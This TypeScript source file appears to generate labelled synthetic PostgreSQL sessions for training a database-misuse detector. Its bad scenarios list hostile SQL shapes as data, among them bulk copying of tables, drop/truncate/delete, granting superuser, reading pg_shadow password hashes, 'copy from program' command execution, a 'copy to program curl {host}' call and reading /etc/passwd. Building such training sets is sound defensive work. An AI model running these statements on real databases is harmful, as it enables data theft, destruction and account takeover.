/** The project's own sessions: composed over the sample shop, by a seeded script; small, so that training runs anywhere. */
import type { SessionContext, SessionStatement } from '../session/record.ts';
import { fill, inject } from './compose.ts';
import type { SessionExample } from './examples.ts';
import type { Random } from './random.ts';
import { readBenign, readPayloads } from './training-set.ts';

interface Scenario {
  readonly name: string;
  readonly context: SessionContext;
  readonly before: readonly string[];
  /** Kinds of benign.sql that fill up the time before the turn. */
  readonly kinds: readonly string[];
  /** Shapes of bad statements, in order; none: a harmless scenario. */
  readonly bad: readonly string[];
  readonly rows: readonly [number, number];
}

const PERSON: SessionContext = {
  user: 'ines',
  role: 'analyst',
  client_addr: '10.1.2.3',
  country: 'PT',
  usual_countries: ['PT'],
  application_name: 'psql',
  hour_utc: 10,
  weekday: 'Tue',
  grant: {
    actions: ['select'],
    scope: [],
    ttl_min: 60,
    reason: 'figures for the monthly report',
    ticket: null,
  },
  history_30d: { sessions: 30, median_statements: 12, usual_hours: [8, 18], usual_apps: ['psql'] },
};
const PROGRAM: SessionContext = {
  ...PERSON,
  user: 'svc_shop',
  role: 'service_app',
  application_name: 'shop',
  grant: {
    actions: ['select', 'insert', 'update', 'delete'],
    scope: ['public.*'],
    reason: 'service account',
  },
  history_30d: { sessions: 300, median_statements: 20, usual_hours: [0, 24], usual_apps: ['shop'] },
};
const ABROAD: SessionContext = {
  ...PERSON,
  client_addr: '203.0.113.9',
  country: 'ZZ',
  hour_utc: 3,
  application_name: 'python',
};
const SUPPORT: SessionContext = {
  ...PERSON,
  role: 'support_staff',
  grant: {
    actions: ['select'],
    scope: ['customers', 'orders'],
    reason: 'refund of one order',
    ticket: 'T-1',
  },
};
const DEPLOY: SessionContext = {
  ...PERSON,
  role: 'engineer',
  grant: { actions: ['select', 'insert', 'update', 'ddl'], scope: [], reason: 'release', ticket: 'T-2' },
};
const LOAD: SessionContext = {
  ...PROGRAM,
  user: 'svc_etl',
  role: 'service_etl',
  grant: {
    actions: ['select', 'insert', 'truncate', 'ddl', 'delete'],
    scope: ['analytics.*'],
    reason: 'nightly load',
  },
};

const PAGES = [0, 1, 2, 3, 4, 5].map(
  (page) => `select * from {table0} order by id limit 1000 offset ${page}000`,
);
const RANGES = [0, 1, 2, 3, 4, 5].map(
  (at) => `select id, email from customers where id between ${at}00 and ${at + 1}00`,
);
const NAMES = Array.from(
  { length: 9 },
  (_, at) => `select id, full_name from customers where email = 'person${at}@mail.example'`,
);
const PROBES = ['boolean', 'error', 'union', 'time', 'tautology'];

const SCENARIOS: readonly Scenario[] = [
  harmless('own_analyst', PERSON, ['analyst'], [1, 250]),
  harmless('own_analyst_abroad', ABROAD, ['analyst'], [1, 250]),
  harmless('own_application', PROGRAM, ['app', 'orm'], [0, 50]),
  harmless('own_support', SUPPORT, ['app'], [0, 5]),
  harmless('own_deploy', DEPLOY, ['migration'], [0, 0]),
  harmless('own_night_load', LOAD, ['etl'], [0, 200_000]),
  harmless('own_explorer', PERSON, ['catalog'], [1, 100]),
  harmless('own_database_administrator', { ...DEPLOY, role: 'dba' }, ['dba', 'catalog'], [1, 100]),
  bad('own_paging', ABROAD, ['catalog'], PAGES, [1000, 1000]),
  bad('own_slow_paging', SUPPORT, ['app'], RANGES, [100, 100]),
  bad('own_curiosity', SUPPORT, ['app'], NAMES, [1, 1]),
  bad(
    'own_grab',
    { ...PERSON, hour_utc: 22 },
    ['analyst'],
    ['select * from {table}', 'copy {table} to stdout'],
    [80_000, 400_000],
  ),
  bad(
    'own_wipe',
    { ...PERSON, grant: { actions: ['select', 'ddl'] } },
    ['analyst'],
    ['drop table {table}', 'truncate {table}'],
    [0, 0],
  ),
  bad(
    'own_slip',
    { ...SUPPORT, grant: { actions: ['select', 'delete'], ticket: 'T-3' } },
    ['app'],
    ['delete from {table}'],
    [90_000, 900_000],
  ),
  bad(
    'own_takeover',
    PERSON,
    ['catalog'],
    ['alter role {s} superuser', 'grant postgres to {s}', 'select usename, passwd from pg_shadow'],
    [0, 2],
  ),
  bad(
    'own_dropper',
    ABROAD,
    [],
    [
      "copy {s} from program 'id'",
      "copy (select 1) to program 'curl {host}'",
      "select pg_read_file('/etc/passwd')",
    ],
    [0, 1],
  ),
];

function harmless(
  name: string,
  context: SessionContext,
  kinds: readonly string[],
  rows: readonly [number, number],
): Scenario {
  return { name, context, before: [], kinds, bad: [], rows };
}

function bad(
  name: string,
  context: SessionContext,
  kinds: readonly string[],
  shapes: readonly string[],
  rows: readonly [number, number],
): Scenario {
  return { name, context, before: ['select 1'], kinds, bad: shapes, rows };
}

/** Each scenario `each` times, and as many injections through the application. */
export function ownSessions(random: Random, each: number): readonly SessionExample[] {
  const benign = readBenign();
  const sessions = SCENARIOS.flatMap((scenario) =>
    Array.from({ length: each }, (_, at) =>
      compose(scenario, textsOf(benign, scenario.kinds), `${scenario.name}-${at}`, random),
    ),
  );
  const bases = textsOf(benign, ['app', 'orm']);
  return [...sessions, ...PROBES.flatMap((family) => injections(family, bases, random, Math.ceil(each / 2)))];
}

const textsOf = (benign: ReturnType<typeof readBenign>, kinds: readonly string[]): readonly string[] =>
  benign.filter(({ kind }) => kinds.includes(kind.slice('own_'.length))).map(({ sql }) => sql);

function compose(scenario: Scenario, texts: readonly string[], id: string, random: Random): SessionExample {
  const lead = texts.length === 0 ? 0 : 3 + random.below(12);
  const quiet = Array.from({ length: lead }, () => random.pick(texts));
  const calm = scenario.bad.length === 0 ? scenario.rows : ([0, 200] as const);
  const table = random.pick(['customers', 'orders', 'payments']);
  const turns = scenario.bad.map((shape) => fill(shape.replace('{table0}', table), random));
  const statements = [
    ...[...scenario.before, ...quiet].map((sql) => ({ sql, rows: between(calm, random) })),
    ...turns.map((sql) => ({ sql, rows: between(scenario.rows, random) })),
  ];
  const first = statements.length - turns.length;
  return {
    session: { ...scenario.context, id, statements: timed(statements, random) },
    bad: turns.map((_, at) => first + at),
    scenario: scenario.name,
  };
}

function injections(
  family: string,
  bases: readonly string[],
  random: Random,
  each: number,
): readonly SessionExample[] {
  const payloads = readPayloads('payloads.tsv').filter((payload) => payload.family === family);
  return Array.from({ length: each }, (_, at) => {
    const quiet = Array.from({ length: 8 }, () => random.pick(bases));
    const probes = Array.from(
      { length: 8 },
      () => inject(random.pick(bases), random.pick(payloads), random) ?? '',
    );
    const sqls = [...quiet, ...probes.filter((sql) => sql !== '')];
    const statements = timed(
      sqls.map((sql) => ({ sql, rows: random.below(20) })),
      random,
    );
    const bad = sqls.map((_, index) => index).slice(quiet.length);
    return {
      session: { ...PROGRAM, id: `own_${family}-${at}`, statements },
      bad,
      scenario: `own_injection_${family}`,
    };
  });
}

const between = ([least, most]: readonly [number, number], random: Random): number =>
  least + random.below(most - least + 1);

function timed(
  statements: readonly { sql: string; rows: number }[],
  random: Random,
): readonly SessionStatement[] {
  let t = 0;
  return statements.map((statement) => {
    t += 1 + random.below(30);
    return { ...statement, t, ms: 1 + random.below(30) };
  });
}
